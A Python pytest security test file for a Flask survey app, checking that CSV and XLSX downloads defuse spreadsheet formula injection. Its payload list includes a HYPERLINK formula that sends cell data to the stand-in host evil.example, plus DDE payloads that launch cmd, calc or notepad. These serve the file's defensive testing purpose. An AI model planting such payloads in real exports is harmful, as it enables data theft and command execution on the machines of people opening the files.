"""Every CSV and XLSX download, with text that a spreadsheet would run as a formula: every cell neutralised.

Text starting with =, +, -, @, a tab or a carriage return is planted wherever people can type it (unit
names and areas, survey titles, curated theme labels, invitees' email addresses), then each export is
downloaded through the app as a user would and read back: with the csv module, and with openpyxl for XLSX.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook

from tests.factories import make_scored_org, make_theme, make_theme_stat, make_unit
from tests.security.helpers import signed_in

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _dangerous(cell: object) -> bool:
    """A text cell a spreadsheet would read as a formula (numbers such as -3.5 are fine)."""
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(body: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(body))
    cells = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                cells.append(cell.value)
    return cells


@pytest.fixture
def planted(session: Any) -> dict[str, Any]:
    """A scored survey whose area, team, theme and survey texts all start like formulas."""
    org = make_scored_org(
        session, {PAYLOADS[0]: {PAYLOADS[1]: 8, "Team B": 6}, "Care": {PAYLOADS[3]: 10}}, waves=2
    )
    survey = org["survey"]
    survey.title = PAYLOADS[2]
    for number, payload in enumerate(PAYLOADS[:4]):
        theme = make_theme(session, survey, label=f"theme {number}", curated_label=payload, state="renamed")
        make_theme_stat(session, theme, org["waves"][-1], comment_count=12, share=0.25)
    for payload in PAYLOADS[4:]:
        make_unit(session, name=payload, area=payload)
    from tests.factories import make_user

    users = {"admin": make_user(session, role="admin"), "leader": make_user(session, role="leader")}
    session.commit()
    return {"survey": survey, "wave": org["waves"][-1], "users": users, "team": org["units"][PAYLOADS[1]]}


def _assert_neutralised(cells: list[Any], expect: list[str]) -> None:
    dangerous = [c for c in cells if _dangerous(c)]
    assert dangerous == [], f"cells that would run as formulas: {dangerous}"
    text = "\n".join(str(c) for c in cells if c is not None)
    for payload in expect:  # each planted text is there, defused, so the check above had work to do
        assert payload.strip() in text, f"{payload!r} is missing from the export"


def test_board_pack_csv_and_xlsx_neutralise_every_cell(app: Flask, planted: dict[str, Any]) -> None:
    client, _token = signed_in(app, planted["users"]["leader"])
    base = f"/insights/{planted['survey'].key}/waves/{planted['wave'].number}/board-pack"
    csv_response = client.get(base + ".csv")
    xlsx_response = client.get(base + ".xlsx")
    assert csv_response.status_code == 200 and xlsx_response.status_code == 200
    expected = [PAYLOADS[0], PAYLOADS[1], PAYLOADS[3]]
    _assert_neutralised(_csv_cells(csv_response.data), expected)
    _assert_neutralised(_xlsx_cells(xlsx_response.data), expected)


def test_units_csv_export_neutralises_every_cell(app: Flask, planted: dict[str, Any]) -> None:
    client, _token = signed_in(app, planted["users"]["admin"])
    response = client.get("/admin/units/export.csv")
    assert response.status_code == 200
    cells = _csv_cells(response.data)
    _assert_neutralised(cells, [p for p in PAYLOADS if p != PAYLOADS[2]])  # [2] is the survey's title
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[4] in cells


def test_invitation_links_csv_neutralises_email_addresses(app: Flask, planted: dict[str, Any]) -> None:
    """An email address may legally start with = + - or @-free formula text; the mail-merge file must not
    run it. (The survey needs an open wave to invite to.)"""
    from surveyapp.extensions import db
    from tests.factories import make_wave

    survey = planted["survey"]
    wave = make_wave(db.session, survey, number=3, status="open")
    db.session.commit()
    client, token = signed_in(app, planted["users"]["admin"])
    addresses = ["=1+1@evil.example", "+cmd@evil.example", "-2+3@evil.example"]
    upload = "email,unit_key\n" + "".join(f"{a},{planted['team'].key}\n" for a in addresses)
    response = client.post(
        f"/admin/surveys/{survey.key}/waves/{wave.number}/invitations",
        data={
            "csrf_token": token,
            "delivery": "download",
            "file": (io.BytesIO(upload.encode()), "people.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 200 and response.mimetype == "text/csv", response.get_data(as_text=True)[
        :500
    ]
    cells = _csv_cells(response.data)
    _assert_neutralised(cells, [PAYLOADS[1]])  # the team's name
    assert {"'" + a for a in addresses} <= set(cells)
